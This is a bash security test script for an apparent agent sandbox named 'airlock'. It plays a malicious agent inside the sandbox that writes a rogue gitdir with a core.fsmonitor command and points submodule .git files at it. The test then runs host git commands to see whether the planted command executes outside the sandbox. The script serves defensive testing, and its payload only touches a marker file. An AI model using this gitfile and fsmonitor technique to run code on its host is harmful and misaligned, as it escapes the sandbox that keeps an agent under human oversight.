#!/bin/bash
# Direct mode: retarget a submodule's sub/.git gitfile (or populate an uninitialised one) to an agent-made gitdir with core.fsmonitor; host git status recurses into it.
# Exit 0 = product defended, 1 = attack succeeded, 2 = setup error.
. "$(dirname "$0")/lib.sh"
git init -q $T/repo && cd $T/repo && echo hi > README
git init -q $T/lib && (cd $T/lib && echo lib > l && git add l && git commit -qm l)
git -c protocol.file.allow=always submodule -q add $T/lib sub
git -c protocol.file.allow=always submodule -q add $T/lib deep/sub2
git commit -qm sub; rm -rf deep/sub2/* deep/sub2/.git   # second one not populated
write_sandbox direct
up_sandbox
# ---- the malicious agent, inside the sandbox ----
airlock exec $N -- env M=$M sh <<'AGENT'
cd /workspace
mkdir -p .evil/objects .evil/refs/heads; echo "ref: refs/heads/master" > .evil/HEAD
printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = "touch %s; echo"\n' "$M" > .evil/config
echo "gitdir: ../.evil" > sub/.git 2>/dev/null
mv sub sub.old 2>/dev/null && mkdir sub && echo "gitdir: ../.evil" > sub/.git
echo "gitdir: ../../.evil" > deep/sub2/.git 2>/dev/null
rmdir deep/sub2 2>/dev/null && mkdir deep/sub2 && echo "gitdir: ../../.evil" > deep/sub2/.git
true
AGENT
# ---- host side ----
airlock review $N --json >$T/review.json 2>$T/review.err; RRC=$?
for c in "status" "diff" "diff --stat" "log -1" "commit -qam x --allow-empty" "gc -q"; do git $c >/dev/null 2>&1; done
[ -e $M ] && { echo "host git ran planted fsmonitor via submodule gitfile"; R=1; }
echo "review exit=$RRC"; [ -s $T/review.err ] && cat $T/review.err
finish
